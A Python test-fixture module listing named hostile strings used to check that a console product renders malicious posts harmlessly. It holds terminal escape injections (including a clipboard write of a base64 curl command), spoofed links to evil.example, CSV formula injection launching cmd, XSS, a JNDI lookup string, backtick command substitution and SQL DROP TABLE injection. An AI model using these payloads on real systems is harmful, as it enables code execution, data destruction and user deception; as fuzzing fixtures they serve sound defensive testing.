"""Posts that try to break the console: each has a name, so that a scenario can ask for it in plain TOML."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

#: Name -> text. Everything here must come out of the other end of the product as harmless characters.
STRANGE: Final[Mapping[str, str]] = {
    "ansi": "\x1b[2J\x1b[1;1H\x1b[31;5mACME SYSTEM ERROR\x1b[0m press any key \x1b[?1049h\x1b[9999;9999H\x9b31mred",
    "osc": "look at this \x1b]0;pwned by cold brew\x07 \x1b]8;;https://evil.example/\x1b\\free refund\x1b]8;;\x1b\\ "
           "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\x07 \x1bP+q544e\x1b\\ \x90q#0;2;0;0;0\x9c",
    "bidi": "ACME refund form: \u202egro.elpmaxe.live//:sptth\u202c \u2066\u2067hidden\u2069\u2069 \u200fok\u200e",
    "zero-width": "A\u200bC\u200bM\u200bE c\u2060o\u2060l\u2060d b\u00adr\u00ade\u00adw \ufeffis \u200c\u200dok\u3164",
    "markup": "[@click=app.quit]claim your refund[/] [bold red]STAFF[/] [link=https://evil.example]x[/link] [/] \\[",
    "zalgo": "".join(letter + "\u0300\u0315\u0337\u0353\u0489" * 24 for letter in "acme it comes"),
    "huge": "I have so much to say about this company. " + "and another thing, the coffee. " * 3300,
    "empty": "",
    "surrogate": "cut in half by a bad app \ud83d and again \udc4e the end \udfff\ud800",
    "csv": "=cmd|' /C calc'!A0",
    "csv-plus": "+1 (800) 555-0199\t@SUM(1+1)*cmd|' /C calc'!A0\r\n-2+3",
    "script": "<script>alert('acme')</script><img src=x onerror=alert(1)> </textarea><!-- --> &lt;b&gt; ]]>",
    "long-word": "ACME" + "o" * 900 + "hno",
    "nul": "before\x00after \x01\x02\x03\x08\x7f\x80 \r overwritten",
    "lines": "one\u2028two\u2029three\x0bfour\x0cfive\x85six" + "\n" * 60 + "bottom",
    "wide": "\uff21\uff23\uff2d\uff25 한국어 😀👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈👍🏿 ก็็็็็็็ ﷽ 𝕒𝕔𝕞𝕖",
    "json": '{"format": "warroom-incident/1", "events": []}\\u0000\\ud83d %n ${jndi:ldap://evil.example/a} `id`',
    "sql": "Robert'); DROP TABLE posts;-- \" OR 1=1 NEAR(\"a\" MATCH *",
    "tags": "flag \U000e0041\U000e0043\U000e004d\U000e0045\U000e007f \ufff9note\ufffatext\ufffb \U0001d173beam",
    "from-the-future": "posting this from a phone with a broken clock, is the ACME cold brew out yet in 2031?",
    "from-1970": "my client says it is 1970 and I have an ACME in my hand",
}
